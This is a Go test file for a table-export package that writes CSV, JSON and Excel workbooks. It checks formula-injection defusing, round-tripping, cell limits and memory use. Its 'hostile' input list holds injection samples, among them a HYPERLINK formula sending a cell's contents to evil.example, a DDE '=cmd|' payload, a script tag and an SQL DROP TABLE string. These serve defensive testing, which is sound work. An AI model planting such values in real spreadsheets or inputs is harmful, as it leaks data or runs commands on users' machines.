package tables_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"math"
	"os"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"hotline/agentapi/tables"
)

var moscow = time.FixedZone("Europe/Moscow", 3*60*60)

// hostile are texts that people type to make a program do something, and those that are only long or rare.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "=1+1", "+7 (495) 123-00-01", "-5", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "'=1", "''=1", "'quoted'", "'",
	"＝1+1", "\u200b=1", "=cmd|'/C calc'!A0", "a,=1;=2", "<script>alert(1)</script>", "]]>&amp;<c t=\"s\">", "_x0041_", "_x005F_x0041_", "'; DROP TABLE tickets; --",
	"a\nb", "a\tb", "a\rb", `a"b`, "a;b,c", " blanks ", "\u202eevil", "👨‍👩‍👧", "Ёж", "", "0012", "1e5", "TRUE", "2026-01-02", strings.Repeat("ж", 10_000),
	"\ufeffmark", `\.`, "#N/A",
}

var twoColumns = []tables.Column{{Key: "text", Title: "Text"}, {Key: "n", Title: "Number"}}

// written is a table of some texts beside numbers.
func written(t testing.TB, f tables.Format, o tables.Options, texts ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	table, err := tables.New(f, &b, o, twoColumns...)
	if err != nil {
		t.Fatal(err)
	}
	for i, text := range texts {
		if err := table.Row(text, -i); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(table.Close(), table.Close()); err != nil {
		t.Fatal(err)
	}
	if err := table.Row("late", 1); !errors.Is(err, tables.ErrClosed) {
		t.Errorf("a row after the end: %v", err)
	}
	return b.Bytes()
}

func TestHostileTextComesBackFromCSVAndIsNoFormula(t *testing.T) {
	for _, o := range []tables.Options{{}, {Separator: ';', BOM: true}} {
		data := written(t, tables.CSV, o, hostile...)
		if data, is := bytes.CutPrefix(data, []byte("\uFEFF")); is != o.BOM || bytes.HasPrefix(data, []byte("\uFEFF")) {
			t.Errorf("the mark of the encoding is there: %v", is)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF"))))
		r.Comma = max(o.Separator, ',')
		rows, err := r.ReadAll()
		if err != nil || len(rows) != len(hostile)+1 || !slices.Equal(rows[0], []string{"Text", "Number"}) {
			t.Fatalf("%d rows, error %v", len(rows), err)
		}
		for i, text := range hostile {
			raw := rows[i+1][0]
			if got := tables.Undefused(raw); got != text {
				t.Errorf("%q comes back as %q", text, got)
			}
			if strings.ContainsAny(strings.TrimSpace(raw + " ")[:min(1, len(strings.TrimSpace(raw)))], "=+-@") || strings.HasPrefix(raw, "\t") || strings.HasPrefix(raw, "\r") {
				t.Errorf("%q is a formula: %q", text, raw)
			}
			if rows[i+1][1] != strconv.Itoa(-i) {
				t.Errorf("the number %d is %q", -i, rows[i+1][1])
			}
		}
	}
}

func TestEachTextSurvivesDefusing(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		parts := rapid.SliceOf(rapid.OneOf(rapid.SampledFrom([]string{"'", "=", "+", " ", "\t", "\u200b", "@", "＝"}), rapid.String()))
		s := strings.Join(parts.Draw(t, "text"), "")
		d := tables.Defused(s)
		if got := tables.Undefused(d); got != s {
			t.Fatalf("%q becomes %q, and that %q", s, d, got)
		}
		if trimmed := strings.TrimSpace(d); trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@") {
			t.Fatalf("%q becomes %q", s, d)
		}
	})
}

func TestHostileTextComesBackFromJSON(t *testing.T) {
	var rows []struct {
		Text string
		N    int
	}
	if err := json.Unmarshal(written(t, tables.JSON, tables.Options{}, hostile...), &rows); err != nil || len(rows) != len(hostile) {
		t.Fatalf("%d rows, error %v", len(rows), err)
	}
	for i, text := range hostile {
		if rows[i].Text != text || rows[i].N != -i {
			t.Errorf("%q comes back as %q with %d", text, rows[i].Text, rows[i].N)
		}
	}
	if err := json.Unmarshal(written(t, tables.JSON, tables.Options{}), &rows); err != nil || len(rows) != 0 {
		t.Errorf("without rows it is %v, error %v", rows, err)
	}
}

func TestHostileTextComesBackFromAWorkbookAndIsNoFormula(t *testing.T) {
	data := written(t, tables.XLSX, tables.Options{Name: "Tickets"}, hostile...)
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, text := range hostile {
		at := strconv.Itoa(i + 2)
		got, err := f.GetCellValue("Tickets", "A"+at)
		if err != nil || got != text {
			t.Errorf("%q comes back as %q, error %v", text, got, err)
		}
		if formula, err := f.GetCellFormula("Tickets", "A"+at); err != nil || formula != "" {
			t.Errorf("%q is the formula %q, error %v", text, formula, err)
		}
		if kind, err := f.GetCellType("Tickets", "A"+at); err != nil || kind != excelize.CellTypeInlineString {
			t.Errorf("%q has type %v, error %v", text, kind, err)
		}
		if n, err := f.GetCellValue("Tickets", "B"+at); err != nil || n != strconv.Itoa(-i) {
			t.Errorf("the number %d is %q, error %v", -i, n, err)
		}
	}
	for _, part := range partsOf(t, data) {
		if err := wellFormed(part.data); err != nil {
			t.Errorf("%s: %v", part.name, err)
		}
		if bytes.Contains(part.data, []byte("<f>")) || bytes.Contains(part.data, []byte("<f ")) {
			t.Errorf("%s has a formula", part.name)
		}
	}
}

type part struct {
	name string
	data []byte
}

func partsOf(t *testing.T, workbook []byte) (all []part) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(workbook), int64(len(workbook)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(r)
		if err := errors.Join(err, r.Close()); err != nil {
			t.Fatal(err)
		}
		all = append(all, part{f.Name, data})
	}
	return all
}

func wellFormed(data []byte) error {
	d := xml.NewDecoder(bytes.NewReader(data))
	for {
		if _, err := d.Token(); errors.Is(err, io.EOF) {
			return nil
		} else if err != nil {
			return err
		}
	}
}

func TestWhatXMLHasNoPlaceForIsShownAsSuch(t *testing.T) {
	f, err := excelize.OpenReader(bytes.NewReader(written(t, tables.XLSX, tables.Options{}, "a\x00b\x1bc\xff")))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got, err := f.GetCellValue("Table", "A2"); err != nil || got != "a\uFFFDb\uFFFDc\uFFFD" {
		t.Errorf("it is %q, error %v", got, err)
	}
}

func TestTextThatACellCannotHoldSaysThatItWasCut(t *testing.T) {
	exact := strings.Repeat("ж", 32_765) + "🙂" // 32,767 units
	f, err := excelize.OpenReader(bytes.NewReader(written(t, tables.XLSX, tables.Options{}, exact, exact+"x", strings.Repeat("🙂", 20_000))))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got, err := f.GetCellValue("Table", "A2"); err != nil || got != exact {
		t.Errorf("a text that fits comes back with %d bytes of %d, error %v", len(got), len(exact), err)
	}
	for _, at := range []string{"A3", "A4"} {
		got, err := f.GetCellValue("Table", at)
		if n := len(utf16.Encode([]rune(got))); err != nil || n > 32_767 || n < 32_766 || !strings.HasSuffix(got, "CSV and JSON have it]") || strings.Contains(got, "\uFFFD") {
			t.Errorf("%s has %d units and ends with %q, error %v", at, n, got[max(0, len(got)-40):], err)
		}
	}
}

func TestSheetsHaveNamesThatExcelTakes(t *testing.T) {
	for name, want := range map[string]string{
		"Tickets": "Tickets", "": "Table", "''": "Table", "a/b\\c:d*e?f[g]": "a_b_c_d_e_f_g_", "'quoted'": "quoted", "history": "history_", "\u202eevil\x00": "evil",
		strings.Repeat("ж", 40): strings.Repeat("ж", 31), strings.Repeat("🙂", 20): strings.Repeat("🙂", 15), strings.Repeat("a", 30) + "'b": strings.Repeat("a", 30),
	} {
		if got := tables.SheetName(name); got != want {
			t.Errorf("%q becomes %q, want %q", name, got, want)
		}
	}
}

var everything = []tables.Column{
	{Key: "moment", Title: "At", Kind: tables.Moment}, {Key: "day", Title: "Day", Kind: tables.Day}, {Key: "share", Title: "Share"}, {Key: "took", Title: "Took"},
	{Key: "id", Title: "Id"}, {Key: "is", Title: "Is"}, {Key: "none", Title: "None"},
}

// everyKind writes a row with a cell of every type, and one without values.
func everyKind(t *testing.T, f tables.Format) []byte {
	t.Helper()
	var b bytes.Buffer
	table, err := tables.New(f, &b, tables.Options{Name: "T", Location: moscow}, everything...)
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 3, 1, 22, 30, 15, 0, time.UTC)
	var none *time.Time
	type number string // as tickets.Number is one
	half := 0.5
	if err := errors.Join(
		table.Row(at, &at, &half, 90*time.Second, int64(1234567890123456789), true, number("100237")),
		table.Row(none, time.Time{}, math.NaN(), nil, uint8(7), false, math.Inf(1)),
		table.Close(),
	); err != nil {
		t.Fatal(err)
	}
	for _, wrong := range [][]any{{1}, {1, 2, 3, 4, 5, 6, 7, 8}, {struct{}{}, 2, 3, 4, 5, 6, 7}} {
		again, err := tables.New(f, io.Discard, tables.Options{}, everything...)
		if err != nil {
			t.Fatal(err)
		}
		if err := again.Row(wrong...); err == nil {
			t.Errorf("%s takes the row %v", f, wrong)
		}
		if err := again.Close(); err != nil {
			t.Error(err)
		}
	}
	return b.Bytes()
}

func TestNumbersAndMomentsStayWhatTheyAre(t *testing.T) {
	want := "At (Europe/Moscow),Day,Share,Took,Id,Is,None\n2026-03-02 01:30:15,2026-03-02,0.5,90,1234567890123456789,true,100237\n,,,,7,false,\n"
	if got := string(everyKind(t, tables.CSV)); got != want {
		t.Errorf("CSV is\n%s\nwant\n%s", got, want)
	}
	want = `[
{"moment":"2026-03-01T22:30:15Z","day":"2026-03-02","share":0.5,"took":90,"id":1234567890123456789,"is":true,"none":"100237"},
{"moment":null,"day":null,"share":null,"took":null,"id":7,"is":false,"none":null}
]
`
	if got := string(everyKind(t, tables.JSON)); got != want {
		t.Errorf("JSON is\n%s\nwant\n%s", got, want)
	}
	f, err := excelize.OpenReader(bytes.NewReader(everyKind(t, tables.XLSX)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for at, want := range map[string][2]string{ // as it is shown, and as it is
		"A1": {"At (Europe/Moscow)", "At (Europe/Moscow)"},
		"A2": {"2026-03-02 01:30:15", "46083.0626736111"}, "B2": {"2026-03-02", "46083"}, "C2": {"0.5", "0.5"}, "D2": {"90", "90"},
		"E2": {"1234567890123456789", "1234567890123456789"}, "F2": {"TRUE", "1"}, "G2": {"100237", "100237"}, "A3": {"", ""}, "C3": {"", ""}, "E3": {"7", "7"}, "F3": {"FALSE", "0"},
	} {
		shown, err := f.GetCellValue("T", at)
		raw, err2 := f.GetCellValue("T", at, excelize.Options{RawCellValue: true})
		if err := errors.Join(err, err2); err != nil || shown != want[0] || raw != want[1] {
			t.Errorf("%s is shown as %q and is %q, error %v; want %q", at, shown, raw, err, want)
		}
	}
	if kind, err := f.GetCellType("T", "E2"); err != nil || kind != excelize.CellTypeInlineString {
		t.Errorf("a number of 19 digits, of which Excel keeps 15, has type %v, error %v", kind, err)
	}
}

func TestTableThatCannotBeIsRefused(t *testing.T) {
	for what, err := range map[string]error{
		"no columns":     second(tables.New(tables.CSV, io.Discard, tables.Options{})),
		"a format":       second(tables.New("pdf", io.Discard, tables.Options{}, twoColumns...)),
		"a separator":    second(tables.New(tables.CSV, io.Discard, tables.Options{Separator: '\n'}, twoColumns...)),
		"the same twice": second(tables.New(tables.JSON, io.Discard, tables.Options{}, twoColumns[0], twoColumns[0])),
		"parse":          second(tables.ParseFormat("xls")),
	} {
		if err == nil {
			t.Errorf("%s is taken", what)
		}
	}
}

func second[T any](_ T, err error) error { return err }

type brokenWriter struct{}

var errHungUp = errors.New("the reader hung up")

func (brokenWriter) Write([]byte) (int, error) { return 0, errHungUp }

func TestWriterThatFailsIsTold(t *testing.T) {
	for _, f := range []tables.Format{tables.CSV, tables.XLSX, tables.JSON} {
		table, err := tables.New(f, brokenWriter{}, tables.Options{}, twoColumns...)
		if err == nil {
			err = errors.Join(table.Row("a", 1), table.Close())
		}
		if !errors.Is(err, errHungUp) {
			t.Errorf("%s: %v", f, err)
		}
	}
}

// TestMillionRowsNeedBoundedMemory writes more rows than a sheet holds, and looks at the memory in use meanwhile.
func TestMillionRowsNeedBoundedMemory(t *testing.T) {
	rows := 1_048_600
	if testing.Short() {
		rows = 50_000
	}
	for _, f := range []tables.Format{tables.CSV, tables.JSON, tables.XLSX} {
		t.Run(string(f), func(t *testing.T) {
			temp := t.TempDir()
			out, err := os.Create(t.TempDir() + "/table")
			if err != nil {
				t.Fatal(err)
			}
			defer out.Close()
			before := inUse()
			w := &sampler{w: out}
			table, err := tables.New(f, w, tables.Options{Name: strings.Repeat("ж", 31), TempDir: temp}, twoColumns...)
			if err != nil {
				t.Fatal(err)
			}
			var peak uint64
			for i := range rows {
				if err := table.Row("ticket of somebody", i); err != nil {
					t.Fatal(err)
				}
				if i%50_000 == 0 {
					peak = max(peak, inUse())
				}
			}
			if err := table.Close(); err != nil {
				t.Fatal(err)
			}
			peak = max(peak, w.peak, inUse())
			grown := int64(peak) - int64(before)
			if most := map[tables.Format]int64{tables.CSV: 4 << 20, tables.JSON: 4 << 20, tables.XLSX: 32 << 20}[f]; grown > most {
				t.Errorf("it took %d MB", grown>>20)
			}
			if left, err := os.ReadDir(temp); err != nil || len(left) > 0 {
				t.Errorf("in the temporary folder is left %v, error %v", left, err)
			}
			if f == tables.XLSX && !testing.Short() {
				checkSheets(t, out.Name(), rows)
			}
		})
	}
}

// sampler looks at the memory in use while a table goes out.
type sampler struct {
	w             io.Writer
	written, next int
	peak          uint64
}

func (s *sampler) Write(p []byte) (int, error) {
	if s.written += len(p); s.written >= s.next {
		s.peak, s.next = max(s.peak, inUse()), s.written+1<<20
	}
	return s.w.Write(p)
}

// inUse is the memory in use after a collection.
func inUse() uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

// checkSheets counts the rows of each sheet.
func checkSheets(t *testing.T, name string, rows int) {
	t.Helper()
	z, err := zip.OpenReader(name)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	var counts []int
	for _, f := range z.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/sheet") {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		n, err := countRows(r)
		if err := errors.Join(err, r.Close()); err != nil {
			t.Fatal(err)
		}
		counts = append(counts, n)
	}
	slices.Sort(counts)
	if want := []int{rows - 1_048_575 + 1, 1_048_576}; !slices.Equal(counts, want) {
		t.Errorf("the sheets have %v rows, want %v", counts, want)
	}
}

func countRows(r io.Reader) (n int, err error) {
	b, kept := make([]byte, 1<<20), 0
	for {
		got, err := r.Read(b[kept:])
		text := b[:kept+got]
		n += bytes.Count(text, []byte("<row "))
		kept = min(4, len(text)) // a tag may stand across two pieces
		copy(b, text[len(text)-kept:])
		if errors.Is(err, io.EOF) {
			return n, nil
		}
		if err != nil {
			return n, err
		}
	}
}

func BenchmarkRow(b *testing.B) {
	for _, f := range []tables.Format{tables.CSV, tables.JSON, tables.XLSX} {
		b.Run(string(f), func(b *testing.B) {
			b.ReportAllocs()
			table, err := tables.New(f, io.Discard, tables.Options{}, twoColumns...)
			if err != nil {
				b.Fatal(err)
			}
			for i := range b.N {
				if i%1_000_000 == 999_999 { // a sheet is not what is measured
					b.StopTimer()
					if err := table.Close(); err != nil {
						b.Fatal(err)
					}
					if table, err = tables.New(f, io.Discard, tables.Options{}, twoColumns...); err != nil {
						b.Fatal(err)
					}
					b.StartTimer()
				}
				if err := table.Row("ticket of somebody", i); err != nil {
					b.Fatal(err)
				}
			}
			if err := table.Close(); err != nil {
				b.Fatal(err)
			}
		})
	}
}
